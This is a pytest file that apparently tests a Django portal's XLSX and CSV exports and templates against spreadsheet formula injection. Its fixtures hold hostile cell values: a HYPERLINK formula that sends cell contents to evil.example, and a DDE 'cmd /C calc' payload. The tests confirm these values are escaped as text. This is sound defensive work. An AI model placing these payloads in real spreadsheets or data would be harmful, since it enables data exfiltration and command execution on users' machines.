"""Every Erhebungen export and template is formula-safe: hostile names become text, numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from portal.exports import FORMULA_STARTS

pytestmark = pytest.mark.django_db

EVIL_KURZNAME = '=HYPERLINK("http://evil.example/?"&B2,"PP Essen")'
EVIL_TITEL = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_INDIKATOR = "+Kontrollen"
EVIL_HINWEIS = "-1+1 Hinweis"


@pytest.fixture
def hostile(erhebung_factory, raster, geo, submit_values):
    from erhebungen.models import IndikatorVersion

    for key in "abc":
        geo[key].kurzname = EVIL_KURZNAME + key
        geo[key].save()
    erhebung = erhebung_factory(titel=EVIL_TITEL)
    IndikatorVersion.objects.filter(indikator=raster["kontrollen"]).update(
        name=EVIL_INDIKATOR, hilfetext=EVIL_HINWEIS
    )
    submit_values(erhebung, {geo[x]: {raster["kontrollen"]: "5"} for x in "abc"})
    return erhebung


def assert_no_formula_text(values):
    texts = [v for v in values if isinstance(v, str)]
    assert texts
    assert not [v for v in texts if v.startswith(FORMULA_STARTS)]


def xlsx_cells(content):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def csv_values(content):
    return [v for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for v in row]


def test_lage_exports_hold_no_formula(hostile, login, geschaeftsstelle):
    client = login(geschaeftsstelle)
    xlsx = client.get("/erhebungen/lage/export.xlsx", {"indikator": "kontrollen"})
    cells = xlsx_cells(xlsx.content)
    assert "f" not in {c.data_type for c in cells}
    assert_no_formula_text([c.value for c in cells])
    values = [c.value for c in cells]
    assert "'" + EVIL_KURZNAME + "a" in values and "'" + EVIL_TITEL in values
    assert 5 in values  # numbers stay numbers
    text = csv_values(client.get("/erhebungen/lage/export.csv", {"indikator": "kontrollen"}).content)
    assert_no_formula_text(text)
    assert "'" + EVIL_KURZNAME + "b" in text and "'" + EVIL_TITEL in text


def test_templates_hold_no_formula(hostile, geo, user_factory, login):
    client = login(user_factory(behoerde=geo["a"]))
    xlsx = client.get(f"/erhebungen/{hostile.pk}/vorlage.xlsx")
    cells = xlsx_cells(xlsx.content)
    assert "f" not in {c.data_type for c in cells}
    values = [c.value for c in cells]
    assert_no_formula_text(values)
    assert "'" + EVIL_TITEL in values and "'" + EVIL_INDIKATOR in values and "'" + EVIL_HINWEIS in values
    text = csv_values(client.get(f"/erhebungen/{hostile.pk}/vorlage.csv").content)
    assert_no_formula_text(text)
    assert "'" + EVIL_TITEL in text and "'" + EVIL_INDIKATOR in text
